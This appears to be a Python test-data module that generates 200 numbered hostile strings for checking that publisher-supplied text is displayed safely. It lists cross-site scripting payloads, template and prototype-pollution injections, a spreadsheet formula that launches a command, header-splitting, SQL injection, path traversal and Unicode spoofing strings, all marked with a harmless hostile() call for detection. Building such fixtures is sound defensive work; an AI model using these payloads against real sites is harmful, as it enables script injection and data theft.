"""Two hundred strings that publishers may send to harm whoever looks at them.

Each ends with its number, `h000` to `h199`, by which a page is known to show it. What runs calls
`hostile()`, what becomes markup carries `data-hostile` or is an element that no page of ours has.
"""

from itertools import product

_OUT_OF = ("", '">', "'>", "</textarea></title></script>", "--><svg>]]>", "\\u003c/b\\x3e`;")
"""Ends of what a text may stand in: an attribute, an element, a comment, a string."""
_MARKUP = (
    "<script>hostile()</script>",
    "<img src=x onerror=hostile()>",
    "<svg onload=hostile()>",
    "<svg><script>hostile()</script></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=hostile()></style></mglyph></mtext></math>",
    "<iframe srcdoc='<script>parent.hostile()</script>'></iframe>",
    "<a href=javascript:hostile() data-hostile>x</a>",
    "<details open ontoggle=hostile()>",
    "<video><source onerror=hostile()></video>",
    "<body onpageshow=hostile()>",
    "<form action=javascript:hostile()><button formaction=javascript:hostile()>",
    "<object data=javascript:hostile()></object><embed src=javascript:hostile()>",
    "<style>*{display:none!important}</style><link rel=stylesheet href=/x.css>",
    "<base href=//203.0.113.9/><meta http-equiv=refresh content=0;url=//203.0.113.9/>",
    "<template data-hostile><slot onslotchange=hostile()></template>",
    "<svg><animate onbegin=hostile() attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror=hostile()></foreignObject></svg>",
    "<input autofocus onfocus=hostile()>",
    "<<script>script>hostile()<</script>/script>",
    "<ScRiPt\t\n>hostile()</sCrIpT\x0b>",
    "&lt;img src=x onerror=hostile()&gt;<!--x",
    "%3Cscript%3Ehostile()%3C/script%3E",
    "<x-hostile style=position:fixed;inset:0 tabindex=0 onfocus=hostile() autofocus>",
    "<p contenteditable data-hostile onblur=hostile()>",
)
_OTHERS = (
    *("javascript:hostile()", "JaVaScRiPt:hostile()//", "java\nscript:hostile()"),
    *("data:text/html,<script>hostile()</script>", "vbscript:hostile()", "blob:hostile"),
    *("{{constructor.constructor('hostile()')()}}", "${hostile()}", "{@html '<script>'}"),
    *("#{hostile()}", "<%= hostile() %>", "{hostile()}", "[[${hostile()}]]"),
    *("'-hostile()-'", '"-hostile()-"', "\\';hostile();//", "`;hostile();`"),
    *("');hostile();('", "*/hostile();/*", "\u2028hostile()\u2029"),
    *("background:url(javascript:hostile())", "x;}*{display:none!important}a{", "expression(1)"),
    *("@import '//203.0.113.9/x.css';", "var(--bg);--fg:red", "url(//203.0.113.9/?"),
    *("__proto__.", "constructor.", "prototype.", "[object Object]", "null", "undefined"),
    *('{"__proto__":{"polluted":1}}', "__proto__[polluted]=1", "constructor.prototype.polluted"),
    *("=HYPERLINK(1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"),
    *("\u202egpj.exe", "\u2066\u202e\u2069abc", "\u200b\u200e\u200f\ufeff", "a\u0300" * 200),
    *("\x00NUL\x00", "\x1b[31mred\x1b[0m", "\r\nSet-Cookie: x=1\r\n\r\n", "\x07\x08\x7f"),
    *("👩\u200d💻" * 50, "\U0001f1ef\U0001f1f5", "ﷺ" * 100, "\uffff\ufffe"),
    *("W" * 8000, "あ" * 2000, "../" * 40, "%s%n%x", "' OR 1=1 --", "\\\\203.0.113.9\\x"),
)
NAMES_OF_ALL = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
)
"""What every object has: as keys they lead elsewhere than to what was put there."""


def _numbered() -> list[str]:
    mixed = [out + markup for out, markup in product(_OUT_OF, _MARKUP)]
    some = (*_OTHERS, *mixed)[:200]
    return [f"{one}h{number:03}" for number, one in enumerate(some)]


HOSTILE = _numbered()
